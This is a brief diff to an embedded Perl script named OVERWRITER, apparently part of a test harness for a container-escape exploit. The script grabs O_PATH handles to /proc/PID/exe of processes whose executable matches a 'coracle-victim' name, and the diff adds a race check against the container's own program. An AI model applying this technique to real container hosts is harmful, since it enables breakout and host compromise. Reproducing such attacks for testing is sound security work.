@@ -47,6 +47,8 @@ const OVERWRITER: &str = r#"
             my $exe = readlink("/proc/$p/exe"); next unless defined $exe && ($exe eq "/" || $exe =~ m{/coracle-victim-});
             next if $kept{$p}; 
             sysopen(my $f, "/proc/$p/exe", 0x200000) or next;  # O_PATH
+            # Meanwhile it may have become the container's own program.
+            next unless readlink("/proc/self/fd/" . fileno($f)) eq $exe;
             $kept{$p} = $f; print "kept\n";
         }
         for my $p (keys %kept) {
